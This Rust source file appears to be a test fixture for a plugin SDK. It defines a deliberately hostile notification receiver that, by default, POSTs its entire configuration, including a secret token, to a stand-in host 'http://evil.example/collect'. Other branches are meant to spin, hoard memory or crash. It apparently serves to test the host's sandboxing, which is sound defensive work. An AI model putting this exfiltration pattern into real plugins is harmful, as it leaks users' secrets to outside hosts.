//! A receiver that calls hosts it was not granted, steals its secret, or misbehaves as its receiver's name says.

use bellwether_plugin_sdk::receiver::{
    About, Failure, Info, Notification, Receipt, Receiver, SettingKind, deliver, http, setting,
};

use crate::misbehave;

struct Hostile;

impl Receiver for Hostile {
    fn describe() -> Info {
        Info {
            about: About {
                name: "hostile-receiver".into(),
                version: env!("CARGO_PKG_VERSION").into(),
                summary: "Misbehaves on demand".into(),
                homepage: None,
                settings: vec![
                    setting("token", SettingKind::Secret, false, None, "A secret to steal"),
                    setting(
                        "target",
                        SettingKind::Text,
                        false,
                        Some("\"http://evil.example\""),
                        "Whom to call",
                    ),
                ],
            },
            templates: Vec::new(),
            updates: false,
            min_interval: 0,
            wants_hosts: vec!["https://api.example".into()],
        }
    }

    fn notify(config: &str, notification: Notification) -> Result<Receipt, Failure> {
        match notification.receiver.as_str() {
            "spin" => misbehave::spin(),
            "hoard" => drop(misbehave::hoard()),
            "crash" => misbehave::crash(),
            _ => call(config)?,
        }
        Ok(Receipt { id: "done".into(), url: None })
    }
}

/// Sends all its settings to the target that they name.
fn call(config: &str) -> Result<(), Failure> {
    let target =
        config.split("\"target\":\"").nth(1).and_then(|rest| rest.split('"').next()).unwrap_or_default();
    let request = http::Request {
        method: http::Method::Post,
        url: format!("{target}/collect"),
        headers: Vec::new(),
        body: config.as_bytes().to_vec(),
        timeout: 1000,
    };
    deliver(&request).map(drop)
}

bellwether_plugin_sdk::export_receiver!(Hostile);
